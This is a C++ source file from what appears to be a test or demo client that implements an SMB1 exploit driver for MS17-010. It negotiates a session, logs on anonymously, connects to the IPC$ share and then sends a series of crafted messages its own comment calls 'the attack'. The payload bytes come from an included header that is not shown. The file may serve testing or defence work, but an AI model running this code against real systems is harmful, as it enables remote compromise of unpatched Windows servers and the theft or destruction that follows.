// SPDX-License-Identifier: Apache-2.0
#include <cstdint>
#include <cstdio>
#include <string>

#include "base/bytes.h"
#include "tests/demo_client/commands.h"
#include "tests/demo_client/connection.h"
#include "tests/traffic/smb1.h"

namespace bansoko::demo {
namespace {

namespace wire = traffic::smb1;

struct Answer {
  Heard heard = Heard::nothing;
  std::uint32_t status = 0;
  std::uint16_t tree = 0;
  std::uint16_t user = 0;
};

// [MS-CIFS] section 2.2.3.1.
Answer read_message(Connection& connection) {
  Answer answer;
  std::string bytes;
  answer.heard = connection.receive_until(bytes, 4);
  if (answer.heard != Heard::bytes) return answer;
  ByteReader length(as_bytes(bytes));
  length.skip(1);
  answer.heard = connection.receive_until(bytes, 4 + std::size_t{length.u24()});
  ByteReader in(as_bytes(bytes));
  in.skip(4 + 4 + 1);  // transport, 'SMB', command
  answer.status = in.u32le();
  in.skip(15);
  answer.tree = in.u16le();
  in.skip(2);
  answer.user = in.u16le();
  return answer;
}

Answer exchange(Connection& connection, std::string_view what, std::string_view request) {
  std::printf("sent: %s\n", std::string(what).c_str());
  Answer answer;
  answer.heard = connection.send(request) ? Heard::bytes : Heard::reset;
  if (answer.heard == Heard::bytes) answer = read_message(connection);
  if (answer.heard == Heard::bytes) {
    std::printf("  answer: status 0x%08X\n", answer.status);
  } else {
    std::printf("  %s\n", std::string(words_for(answer.heard)).c_str());
  }
  std::fflush(stdout);
  return answer;
}

Result<Answer> require(const Answer& answer, std::string_view what) {
  if (answer.heard != Heard::bytes) return fail(Errc::io, "{}: {}", what, words_for(answer.heard));
  if (answer.status != 0) return fail(Errc::denied, "{}: refused with status {:#010x}", what, answer.status);
  return answer;
}

Result<wire::Ids> reach_share(Connection& connection, const std::string& host) {
  wire::Ids ids;
  BANSOKO_CHECK(require(exchange(connection, "NEGOTIATE, NT LM 0.12", wire::negotiate(ids)), "negotiate"));
  ++ids.multiplex;
  BANSOKO_TRY(const Answer setup, require(exchange(connection, "SESSION_SETUP_ANDX, anonymous",
                                                   wire::session_setup_anonymous(ids)),
                                          "session setup"));
  ids.user = setup.user;
  ++ids.multiplex;
  const std::string share = "\\\\" + host + "\\IPC$";
  BANSOKO_TRY(const Answer tree,
              require(exchange(connection, "TREE_CONNECT_ANDX, " + share, wire::tree_connect(ids, share)),
                      "tree connect"));
  ids.tree = tree.tree;
  ++ids.multiplex;
  BANSOKO_CHECK(require(exchange(connection, "ECHO", wire::echo(ids, "bansoko")), "echo"));
  ++ids.multiplex;
  return ids;
}

}  // namespace

Result<Outcome> ms17_010(const Target& target) {
  BANSOKO_TRY(Connection connection, Connection::open(target.host, target.port));
  BANSOKO_TRY(const wire::Ids ids, reach_share(connection, target.host));
  std::printf("an ordinary session is up; now the attack\n");
  const auto steps = wire::ms17_010(ids);
  if (exchange(connection, steps[0].what, steps[0].wire).heard != Heard::bytes) return Outcome::stopped;
  for (std::size_t i = 1; i + 1 < steps.size(); ++i) {
    if (!connection.send(steps[i].wire)) {
      std::printf("sent: %zu more messages\n  connection reset\n", i - 1);
      return Outcome::stopped;
    }
  }
  std::printf("sent: %zu times %s\n", steps.size() - 2, std::string(steps[1].what).c_str());
  const Answer last = exchange(connection, steps.back().what, steps.back().wire);
  return last.heard == Heard::bytes ? Outcome::answered : Outcome::stopped;
}

}  // namespace bansoko::demo
